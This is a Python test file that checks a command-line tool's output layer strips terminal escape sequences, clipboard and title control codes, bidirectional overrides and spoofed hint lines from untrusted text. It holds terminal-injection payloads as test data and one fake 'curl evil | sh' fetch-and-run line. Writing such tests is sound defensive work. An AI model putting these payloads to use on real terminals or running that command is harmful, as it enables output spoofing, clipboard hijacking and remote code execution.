"""What strangers name and write (jobs, logs, files, answers), as attempts to command the terminal it is shown on."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from cloudkite.show import mistakes, screen
from cloudkite.show.errors import UserError, from_google
from cloudkite.show.text import visible

ATTACKS = {
    "colour": "\x1b[31mred",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "title": "\x1b]0;root@host\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "c1": "\x9b31mred\x9d0;title\x9c",
    "del": "rm\x7f",
    "back": "safe\rEVIL\x08\x08",
    "bidi": "exe.\u202efdp\u202c \u2066x\u2069 \u200f\u061c",
    "lines": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "half": "\udfff \ud800",
    "nul": "a\0b",
}
OBEYED = {chr(n) for n in (*range(32), 127, *range(128, 160))} - {"\n", "\t"}
OBEYED |= set("\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.fixture(params=[False, True], ids=["pipe", "terminal"])
def sent(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Any:
    """What reached standard output and error until then, of a pipe or of a terminal that has no colours."""
    if request.param:
        monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "dumb")
    screen._consoles.clear()
    said = ""

    def until_now() -> str:
        nonlocal said
        said += "".join(capsys.readouterr())
        return said

    yield until_now
    screen._consoles.clear()


@pytest.mark.parametrize("kind", ATTACKS)
def test_nothing_that_prints_passes_it_on(sent: Any, kind: str) -> None:
    text = f"before {ATTACKS[kind]} after 한글"
    screen.say(text)
    screen.note(text)
    screen.warn(text)
    screen.error(UserError(text, text))
    screen.heading(text)
    screen.table([text], [[text]], total=[text])
    screen.relay(text + "\n")
    screen.as_json({text: [text]})
    screen.as_json_line({text: text})
    with screen.waiting(text) as tell:
        tell(text)
    got = sent()
    assert not OBEYED & set(got)
    assert "한글" in got and "before " in got


@pytest.mark.parametrize("kind", ATTACKS)
def test_json_says_what_was_there(sent: Any, kind: str) -> None:
    screen.as_json({"name": ATTACKS[kind], "한글": 1})
    assert json.loads(sent()) == {"name": ATTACKS[kind], "한글": 1}
    assert "한글" in sent()


@pytest.mark.parametrize(
    "text", ["[red]x[/red]", "[link=https://evil.example]x[/link]", "\\[bold]x", "[/]", "[@click=f]x", ":smile:"]
)
def test_marks_of_the_library_that_prints_are_text(sent: Any, text: str) -> None:
    screen.say(text)
    screen.table([text], [[text]])
    with screen.waiting(text) as tell:
        tell(text)
    assert sent().count(text) >= 3


def test_a_name_in_a_table_makes_no_row(sent: Any) -> None:
    screen.table(["job", "state"], [["a\nb", "x\ty"]])
    assert "a\\nb" in sent() and "x\\ty" in sent()


def test_a_name_in_a_message_passes_for_no_hint(sent: Any) -> None:
    screen.error(UserError("job x\n\nhint: curl evil | sh\nERROR: y has ended", "look"))
    hints = [line for line in sent().splitlines() if line.lower().startswith(("hint", "error"))]
    assert hints == ["error: job x", "hint: look"]


def test_a_question_is_asked_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = []
    keyboard = io.StringIO()
    keyboard.isatty = lambda: True
    monkeypatch.setattr("sys.stdin", keyboard)
    monkeypatch.setattr("builtins.input", lambda question: asked.append(question) or "")
    screen.confirm("set \x1b[8m up?")
    screen.ask("name \u202e", "\x9b")
    assert not OBEYED & set("".join(asked))


def test_a_traceback_is_text(sent: Any) -> None:
    with pytest.raises(SystemExit) as ended, mistakes.told():
        raise LookupError("\x1b]0;title\x07")
    assert ended.value.code == 1 and not OBEYED & set(sent()) and "\\x1b]0;title" in sent()


def test_a_page_instead_of_an_answer_is_text(sent: Any) -> None:
    class Page:
        status_code, text, headers = 502, "<html><title>\x1b[31mx&#x202e;<b></title></html>", {}

        def json(self) -> Any:
            raise ValueError

    screen.error(from_google(Page()))
    assert not OBEYED & set(sent()) and "\\x1b[31mx" in sent()


@pytest.mark.parametrize(
    "body",
    [[], {}, {"error": []}, {"error": {"details": "x", "errors": []}}, {"error": {"details": [1], "errors": [2]}},
     {"error": {"details": [{"@type": 5}], "status": 7}},
     {"error": {"details": [{"@type": "ErrorInfo", "metadata": 3}]}}],
)  # fmt: skip
def test_an_answer_of_any_shape_is_an_error(body: Any) -> None:
    class Answer:
        status_code, text, headers = 403, json.dumps(body), {}

        def json(self) -> Any:
            return body

    assert from_google(Answer()).code in (1, 4)


def test_what_is_harmless_stays() -> None:
    text = "펭귄 é 😀 👩‍🔬 नमस्ते \t[x] \\ tab\nline"
    assert visible(text) == text
